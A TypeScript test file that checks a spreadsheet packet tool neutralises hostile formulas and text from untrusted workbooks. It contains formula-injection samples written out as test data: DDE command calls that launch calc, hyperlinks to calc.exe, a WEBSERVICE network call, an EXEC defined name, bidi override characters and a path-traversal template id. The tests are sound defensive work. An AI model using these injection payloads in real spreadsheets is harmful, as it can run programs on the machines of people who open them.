/**
 * Formulas and text from an untrusted packet, through the real reader, engine and writer: what could act
 * outside the workbook arrives as inert text or as the value the file had cached, is never evaluated as a
 * link or a program, and is not written back as a formula when the packet is saved; ordinary formulas stay
 * formulas.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { PacketSession } from '../../shared/engine.js';
import { loadWorkbook, readPacket, writePacket } from '../../shared/xlsx.js';
import { sanitizeReportOf, templateSetId, templateSetStatus } from '../../shared/safety/index.js';
import type { Packet } from '../../shared/model.js';
import { smallPacket, viaExcelJs } from '../fixtures/hostile/corpus.js';

type Edit = (wb: ExcelJS.Workbook) => void;

async function hostile(edit: Edit): Promise<Uint8Array> {
  return viaExcelJs(await writePacket(smallPacket()), edit);
}

const t01 = (wb: ExcelJS.Workbook) => wb.getWorksheet('公开01表')!;
const formula = (f: string, result?: ExcelJS.CellFormulaValue['result']) => ({ formula: f, ...(result !== undefined ? { result } : {}) }) as ExcelJS.CellFormulaValue;

function cell(p: Packet, sheet: string, r: number, c: number) {
  return p.sheets.find((s) => s.name === sheet)!.cells[r]?.[c] ?? null;
}

/** every <f> element and every hyperlink target in the saved file */
async function liveParts(bytes: Uint8Array): Promise<{ formulas: string[]; links: string[] }> {
  const z = await JSZip.loadAsync(bytes);
  const formulas: string[] = [];
  const links: string[] = [];
  for (const f of Object.values(z.files)) {
    if (f.dir || !/\.(xml|rels)$/.test(f.name)) continue;
    const s = await f.async('string');
    for (const m of s.matchAll(/<f[^>]*>([^<]*)<\/f>/g)) formulas.push(m[1]);
    for (const m of s.matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/g)) links.push(m[1]);
  }
  return { formulas, links };
}

describe('formulas from an untrusted packet', () => {
  it('a DDE call arrives as its own text, is never evaluated, and is saved as text', async () => {
    const dde = "cmd|' /C calc'!A0";
    const bytes = await hostile((wb) => (t01(wb).getCell('C3').value = formula(dde, 0)));
    const p = await readPacket(bytes);
    expect(cell(p, '公开01表', 2, 2)).toEqual({ v: `=${dde}` });
    const s = new PacketSession(p);
    expect(s.getValue('公开01表', 2, 2)).toBe(`=${dde}`);
    expect(s.getFormula('公开01表', 2, 2)).toBeUndefined();
    // the ordinary formula beside it is still a formula and still computes
    expect(s.getFormula('公开01表', 4, 1)).toBe('=SUM(B3:B4)');
    expect(s.getValue('公开01表', 4, 1)).toBe(120.5);
    const saved = await writePacket(s.toPacket());
    const live = await liveParts(saved);
    expect(live.formulas).toContain('SUM(B3:B4)');
    expect(live.formulas.some((f) => f.includes('|'))).toBe(false);
    const again = await readPacket(saved);
    expect(cell(again, '公开01表', 2, 2)?.v).toBe(`=${dde}`);
  });

  it('without the guard the same file would reach the engine as a formula (the test can fail)', async () => {
    const bytes = await hostile((wb) => (t01(wb).getCell('C3').value = formula("cmd|' /C calc'!A0", 0)));
    const raw = new ExcelJS.Workbook();
    await raw.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(raw.getWorksheet('公开01表')!.getCell('C3').formula).toBe("cmd|' /C calc'!A0");
    const wb = await loadWorkbook(bytes);
    expect(wb.getWorksheet('公开01表')!.getCell('C3').formula).toBeUndefined();
    expect(sanitizeReportOf(wb)!.formulas).toEqual([
      { sheet: '公开01表', cell: 'C3', formula: "=cmd|' /C calc'!A0", reason: 'DDE 外部程序调用', kept: 'text' },
    ]);
  });

  it('links, other workbooks and network functions keep the value the file displayed, or their text', async () => {
    const bytes = await hostile((wb) => {
      const ws = t01(wb);
      ws.getCell('C1').value = formula('HYPERLINK("http://example.invalid/x","点此查看")', '点此查看');
      ws.getCell('C2').value = formula('HYPERLINK("file:///C:/Windows/System32/calc.exe")');
      ws.getCell('C3').value = formula('[1]Sheet1!A1', 5);
      ws.getCell('C4').value = formula("'C:\\财务\\[2023决算.xlsx]公开01表'!C7", 88.5);
      ws.getCell('C5').value = formula('_xlfn.WEBSERVICE("http://example.invalid/?"&B3)');
      ws.getCell('D1').value = formula('_xll.EVIL(1)', 1);
      ws.getCell('A3').value = { text: '财政拨款收入', hyperlink: 'file:///C:/Windows/System32/calc.exe' };
    });
    const wb = await loadWorkbook(bytes);
    expect(sanitizeReportOf(wb)!.formulas.map((f) => [f.cell, f.kept])).toEqual([
      ['C1', 'cached'], ['D1', 'text'], ['C2', 'text'], ['C3', 'cached'], ['C4', 'cached'], ['C5', 'text'],
    ]);
    expect(sanitizeReportOf(wb)!.droppedLinks).toBe(1);
    const p = await readPacket(bytes);
    const v = (r: number, c: number) => cell(p, '公开01表', r, c);
    expect(v(0, 2)).toEqual({ v: '点此查看' });
    expect(v(1, 2)).toEqual({ v: '=HYPERLINK("file:///C:/Windows/System32/calc.exe")' });
    expect(v(2, 2)).toEqual({ v: 5 });
    expect(v(3, 2)).toEqual({ v: 88.5 });
    expect(v(4, 2)?.v).toMatch(/^=_xlfn\.WEBSERVICE/);
    expect(v(0, 3)).toEqual({ v: '=_xll.EVIL(1)' });
    expect(v(2, 0)).toEqual({ v: '财政拨款收入' });
    const saved = await writePacket(new PacketSession(p).toPacket());
    const live = await liveParts(saved);
    expect(live.formulas).toEqual(['SUM(B3:B4)']);
    expect(live.links).toEqual([]);
    expect(new TextDecoder().decode(saved)).not.toContain('calc.exe');
  });

  it('text typed to look like a formula stays text and is flagged in an amount cell', async () => {
    const bytes = await hostile((wb) => (t01(wb).getCell('B3').value = "=cmd|' /C calc'!A0"));
    const s = new PacketSession(await readPacket(bytes));
    expect(s.getValue('公开01表', 2, 1)).toBe("=cmd|' /C calc'!A0");
    expect(s.findings().some((f) => f.sheet === '公开01表' && f.cells.includes('B3') && f.message.includes('应填数字'))).toBe(true);
  });

  it('a check formula that is a DDE call is not run: the check reports that it cannot be computed', async () => {
    const bytes = await hostile((wb) => (wb.getWorksheet('审核')!.getCell('D2').value = formula("cmd|' /C calc'!A0", true)));
    const p = await readPacket(bytes);
    expect(p.checks[0].formula).toBe("cmd|' /C calc'!A0");
    const f = new PacketSession(p).findings().find((x) => x.rule === 'T-01')!;
    expect(f.severity).toBe('error');
    expect(f.message).toContain('无法计算');
  });

  it('defined names that are not plain references are dropped, plain ones kept', async () => {
    const base = await writePacket(smallPacket());
    const z = await JSZip.loadAsync(base);
    const book = (await z.file('xl/workbook.xml')!.async('string')).replace(
      '</definedNames>',
      '<definedName name="外部">[1]Sheet1!$A$1</definedName><definedName name="宏">EXEC("calc")</definedName><definedName name="合计">公开01表!$B$5</definedName></definedNames>',
    );
    z.file('xl/workbook.xml', book);
    const bytes = await z.generateAsync({ type: 'uint8array' });
    const wb = await loadWorkbook(bytes);
    expect(sanitizeReportOf(wb)!.droppedNames.sort()).toEqual(['外部']);
    const names = (await readPacket(bytes)).names.map((n) => n.name).sort();
    expect(names).toEqual(['单位名称', '合计']);
  });
});

describe('text from an untrusted packet', () => {
  it('control characters and bidi overrides are removed from shared strings and rich text; line breaks stay', async () => {
    const base = await writePacket(smallPacket());
    const z = await JSZip.loadAsync(base);
    const sst = (await z.file('xl/sharedStrings.xml')!.async('string')).replace('<t>测试单位</t>', '<t xml:space="preserve">测试_x0007_单位_x001B_\u0085\u202e\n第二行</t>');
    z.file('xl/sharedStrings.xml', sst);
    let bytes = await z.generateAsync({ type: 'uint8array' });
    bytes = await viaExcelJs(bytes, (wb) => (t01(wb).getCell('A4').value = { richText: [{ text: '其他\u0007收入' }, { text: '\u202e' }] }));
    const p = await readPacket(bytes);
    expect(cell(p, '概况', 0, 1)?.v).toBe('测试单位\n第二行');
    expect(cell(p, '公开01表', 3, 0)?.v).toBe('其他收入');
  });
});

describe('a packet of another template set', () => {
  it('opens and checks like any packet: its sheets, formulas and checks travel with it', async () => {
    for (const [set, id] of [['shanghai-2024', 'shanghai-2024'], ['../../../../etc', null]] as const) {
      const bytes = await hostile((wb) => (wb.getWorksheet('公开包信息')!.getCell('B1').value = set));
      const p = await readPacket(bytes);
      expect(p.meta['模板套']).toBe(set);
      expect(templateSetId(p.meta)).toBe(id);
      const status = templateSetStatus(p.meta, ['jiangxi-2024']);
      expect(status.known).toBe(false);
      expect(status.note).toMatch(/不是本软件自带的模板套.*可以照常填报和审核/);
      const s = new PacketSession(p);
      expect(s.findings().filter((f) => f.severity === 'error')).toEqual([]);
      expect(s.getValue('公开01表', 4, 1)).toBe(120.5);
    }
  });
});
